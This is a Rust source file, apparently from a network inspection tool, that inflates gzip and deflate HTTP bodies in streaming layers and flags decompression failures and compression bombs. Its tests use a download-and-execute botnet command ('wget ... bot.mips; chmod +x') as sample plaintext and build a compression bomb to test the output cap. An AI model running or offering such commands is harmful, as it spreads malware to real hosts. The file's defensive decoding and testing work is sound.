//! Undoes the content coding of a body: gzip and deflate, in layers, as it arrives.
//!
//! Key type: [`Decoder`]. RFC 9110 8.4, RFC 1952, RFC 1950, RFC 1951. What cannot be inflated is kept as it came.
use crate::limits::{CODING_LAYERS, GZIP_HEADER_BYTES, INFLATED_BYTES};
use core::cell::RefCell;
use miniz_oxide::{
    DataFormat, MZFlush, MZStatus,
    inflate::stream::{InflateState, inflate},
};

/// States of inflaters that a thread keeps for its next bodies: each has a window of 32 kB.
const IDLE_INFLATERS: usize = 4;

thread_local! {
    static IDLE: RefCell<Vec<Box<InflateState>>> = const { RefCell::new(Vec::new()) };
}

/// The state of one deflate stream; given back to its thread at the end.
struct Inflater(Option<Box<InflateState>>);

impl Inflater {
    fn new(format: DataFormat) -> Inflater {
        let idle = IDLE.try_with(|idle| idle.try_borrow_mut().ok()?.pop()).ok().flatten();
        let state = match idle {
            Some(mut state) => {
                state.reset(format);
                state
            }
            None => InflateState::new_boxed(format),
        };
        Inflater(Some(state))
    }
}

impl Drop for Inflater {
    fn drop(&mut self) {
        let Some(state) = self.0.take() else { return };
        // A thread that ends keeps nothing.
        let _ = IDLE.try_with(|idle| {
            if let Ok(mut idle) = idle.try_borrow_mut()
                && idle.len() < IDLE_INFLATERS
            {
                idle.push(state);
            }
        });
    }
}

/// The layers of one body, the outermost first.
#[derive(Default)]
pub(in crate::proto) struct Decoder {
    layers: Vec<Layer>,
    produced: usize,
    /// something was not what it was announced to be
    broken: bool,
    /// as much came out as is allowed for
    bomb: bool,
}

enum Layer {
    /// the head is not whole yet; whether gzip was announced
    Head(bool, Vec<u8>),
    Running(Inflater),
    /// not what was announced: as it came
    Plain,
    Done,
}

impl Decoder {
    /// From the value of Content-Encoding; unknown words count as nothing.
    pub(in crate::proto) fn new(codings: &[u8]) -> Decoder {
        let words = codings.split(|b| *b == b',' || b.is_ascii_whitespace()).rev();
        // Clients are content with a word that has the name in it.
        let has =
            |word: &[u8], name: &[u8]| word.windows(name.len()).any(|part| part.eq_ignore_ascii_case(name));
        let layers = words.filter_map(|word| match word {
            word if has(word, b"gzip") => Some(Layer::Head(true, Vec::new())),
            word if has(word, b"deflate") => Some(Layer::Head(false, Vec::new())),
            _ => None,
        });
        Decoder { layers: layers.take(CODING_LAYERS).collect(), ..Decoder::default() }
    }
    /// What went wrong so far, under Suricata's names.
    pub(in crate::proto) fn events(&self) -> impl Iterator<Item = &'static str> + use<> {
        let events = [(self.broken, "http.gzip_decompression_failed"), (self.bomb, "http.compression_bomb")];
        events.into_iter().filter_map(|(is, name)| is.then_some(name))
    }
    /// There is nothing to undo.
    pub(in crate::proto) fn is_plain(&self) -> bool {
        self.layers.is_empty()
    }
    /// The next bytes, decoded as far as they go.
    pub(in crate::proto) fn decode(&mut self, bytes: &[u8]) -> Vec<u8> {
        let mut current = None;
        for layer in &mut self.layers {
            let room = INFLATED_BYTES.saturating_sub(self.produced);
            let (out, sound) = layer.decode(current.as_deref().unwrap_or(bytes), room);
            self.broken |= !sound;
            self.bomb |= out.len() >= room && room > 0;
            self.produced = self.produced.saturating_add(out.len());
            current = Some(out);
        }
        current.unwrap_or_else(|| bytes.to_vec())
    }
    /// No more bytes: what waits for a head comes out as it is.
    pub(in crate::proto) fn finish(&mut self) -> Vec<u8> {
        let mut current = Vec::new();
        for layer in &mut self.layers {
            let (mut out, _) = layer.decode(&current, INFLATED_BYTES);
            if let Layer::Head(_, held) = layer {
                out.append(held);
                *layer = Layer::Plain;
            }
            current = out;
        }
        current
    }
}

/// A whole gzip, zlib or raw deflate stream, up to `limit` bytes of it; `None` when it is none.
pub fn inflate_whole(bytes: &[u8], limit: usize) -> Option<Vec<u8>> {
    let Head::Stream(format, at) = head(bytes.starts_with(&[0x1f, 0x8b]), bytes) else { return None };
    let mut state = Inflater::new(format);
    let (out, status) = run(&mut state, bytes.get(at..)?, limit);
    (status != Status::Broken || !out.is_empty()).then_some(out)
}

impl Layer {
    /// What comes out of the layer, and whether what went in was sound.
    fn decode(&mut self, bytes: &[u8], room: usize) -> (Vec<u8>, bool) {
        match self {
            Layer::Plain => (bytes.to_vec(), true),
            Layer::Done => (Vec::new(), true),
            Layer::Running(state) => {
                let (out, status) = run(state, bytes, room);
                if status != Status::More {
                    *self = Layer::Done;
                }
                (out, status != Status::Broken)
            }
            Layer::Head(gzip, held) => {
                held.extend_from_slice(bytes);
                let start = match head(*gzip, held) {
                    Head::More if held.len() < GZIP_HEADER_BYTES => return (Vec::new(), true),
                    Head::More => None,
                    Head::Stream(format, at) => Some((format, at)),
                };
                let held = core::mem::take(held);
                let Some((format, at)) = start else {
                    *self = Layer::Plain;
                    return (held, false);
                };
                let mut state = Inflater::new(format);
                let (out, status) = run(&mut state, held.get(at..).unwrap_or(&[]), room);
                match status {
                    Status::More => *self = Layer::Running(state),
                    Status::End => *self = Layer::Done,
                    Status::Broken if out.is_empty() => {
                        *self = Layer::Plain;
                        return (held, false);
                    }
                    Status::Broken => {
                        *self = Layer::Done;
                        return (out, false);
                    }
                }
                (out, true)
            }
        }
    }
}

enum Head {
    More,
    Stream(DataFormat, usize),
}

/// Where the deflate stream begins, and in which wrapping.
fn head(gzip: bool, bytes: &[u8]) -> Head {
    let Some((first, second)) = bytes.first().copied().zip(bytes.get(1).copied()) else { return Head::More };
    if gzip && (first, second) == (0x1f, 0x8b) {
        return gzip_head(bytes).map_or(Head::More, |at| Head::Stream(DataFormat::Raw, at));
    }
    let zlib = first & 0x0f == 8 && (u16::from(first) << 8 | u16::from(second)).is_multiple_of(31);
    Head::Stream(if zlib { DataFormat::ZLibIgnoreChecksum } else { DataFormat::Raw }, 0)
}

/// Length of a gzip header, if it is whole.
fn gzip_head(bytes: &[u8]) -> Option<usize> {
    let flags = *bytes.get(3)?;
    let mut at = 10;
    if flags & 4 != 0 {
        at += 2 + usize::from(*bytes.get(at)?) + (usize::from(*bytes.get(at + 1)?) << 8);
    }
    for bit in [8, 16] {
        if flags & bit != 0 {
            at += bytes.get(at..)?.iter().position(|b| *b == 0)? + 1;
        }
    }
    if flags & 2 != 0 {
        at += 2;
    }
    (at <= bytes.len()).then_some(at)
}

#[derive(PartialEq, Eq)]
enum Status {
    More,
    End,
    Broken,
}

fn run(state: &mut Inflater, bytes: &[u8], room: usize) -> (Vec<u8>, Status) {
    let mut out = Vec::new();
    let Some(state) = state.0.as_deref_mut() else { return (out, Status::Broken) };
    let mut rest = bytes;
    let mut block = [0; 8192];
    loop {
        let result = inflate(state, rest, &mut block, MZFlush::None);
        let written = block.get(..result.bytes_written).unwrap_or(&[]);
        out.extend_from_slice(
            written.get(..written.len().min(room.saturating_sub(out.len()))).unwrap_or(&[]),
        );
        rest = rest.get(result.bytes_consumed..).unwrap_or(&[]);
        match result.status {
            Ok(MZStatus::StreamEnd) => return (out, Status::End),
            Ok(_) if out.len() >= room => return (out, Status::End),
            Ok(_) if result.bytes_written == 0 && (rest.is_empty() || result.bytes_consumed == 0) => {
                return (out, Status::More);
            }
            Ok(_) => {}
            Err(miniz_oxide::MZError::Buf) => return (out, Status::More),
            Err(_) => return (out, Status::Broken),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(codings: &str, body: &[u8], expect: &[u8]) {
        for size in [1, 7, body.len().max(1)] {
            let mut decoder = Decoder::new(codings.as_bytes());
            let mut out: Vec<u8> = body.chunks(size).flat_map(|piece| decoder.decode(piece)).collect();
            out.extend(decoder.finish());
            assert_eq!(out, expect, "{codings} by {size}");
        }
    }

    #[test]
    fn bodies_are_inflated_however_they_are_wrapped() {
        let text = b"wget http://192.0.2.1/bot.mips; chmod +x bot.mips";
        let raw = miniz_oxide::deflate::compress_to_vec(text, 6);
        let zlib = miniz_oxide::deflate::compress_to_vec_zlib(text, 6);
        let gzip = [&b"\x1f\x8b\x08\x08\0\0\0\0\0\x03name\0"[..], &raw, &[0; 8]].concat();
        check("gzip", &gzip, text);
        check("deflate", &raw, text);
        check("Deflate", &zlib, text);
        check("identity", text, text);
        check("gzip", b"\x1f", b"\x1f");
        let events = |body: &[u8]| {
            let mut decoder = Decoder::new(b"gzip");
            decoder.decode(body);
            decoder.events().collect::<Vec<_>>()
        };
        assert!(events(&gzip).is_empty());
        assert_eq!(events(b"\x07no archive at all"), ["http.gzip_decompression_failed"]);
        let twice = miniz_oxide::deflate::compress_to_vec_zlib(&gzip, 6);
        check("gzip, deflate", &twice, text);
        assert!(Decoder::new(b"identity").is_plain());
    }

    #[test]
    fn an_inflater_that_is_used_again_has_forgotten_the_stream_before() {
        let (one, two) = (b"one one one one".repeat(99), b"something else ".repeat(99));
        let one = miniz_oxide::deflate::compress_to_vec_zlib(&one, 6);
        for _ in 0..3 {
            // Half a stream, then a broken one, then a whole one.
            Decoder::new(b"deflate").decode(&one[..one.len() / 2]);
            Decoder::new(b"deflate").decode(&[&one[..9], &[0xff; 99]].concat());
            check("deflate", &miniz_oxide::deflate::compress_to_vec(&two, 6), &two);
            check("deflate", &miniz_oxide::deflate::compress_to_vec_zlib(&two, 6), &two);
        }
    }

    #[test]
    fn a_bomb_is_cut() {
        let bomb = miniz_oxide::deflate::compress_to_vec_zlib(&vec![0; 64 << 20], 6);
        let mut decoder = Decoder::new(b"deflate");
        assert!(decoder.decode(&bomb).len() <= INFLATED_BYTES);
        assert!(decoder.decode(&bomb).is_empty());
        assert_eq!(decoder.events().collect::<Vec<_>>(), ["http.compression_bomb"]);
    }
}
